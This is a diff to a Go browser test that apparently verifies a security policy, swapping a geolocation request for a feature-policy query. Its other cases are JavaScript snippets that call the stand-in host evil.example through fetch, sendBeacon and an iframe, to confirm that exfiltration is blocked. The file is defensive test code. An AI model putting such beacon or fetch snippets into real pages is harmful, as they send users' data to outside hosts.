@@ -66,7 +66,7 @@ func TestPolicyHolds(t *testing.T) {
 		"another host":  `fetch("http://evil.example/").then(() => true, () => false)`,
 		"a beacon":      `new Promise((done) => { addEventListener("securitypolicyviolation", () => done(false), {once: true}); navigator.sendBeacon("http://evil.example/", "x"); setTimeout(() => done(true), 2000) })`,
 		"another frame": `new Promise((done) => { addEventListener("securitypolicyviolation", () => done(false), {once: true}); const f = document.createElement("iframe"); f.src = "http://evil.example/"; document.body.append(f); setTimeout(() => done(true), 2000) })`,
-		"a position":    `new Promise((done) => { navigator.geolocation.getCurrentPosition(() => done(true), () => done(false)); setTimeout(() => done(false), 2000); })`,
+		"a position":    `document.featurePolicy ? document.featurePolicy.allowsFeature("geolocation") : false`, // only Chromium tells
 		"a worker":      `new Promise((done) => { try { new Worker("data:text/javascript,1"); done(true) } catch { done(false) } })`,
 	} {
 		if Value[bool](tab, attempt) {
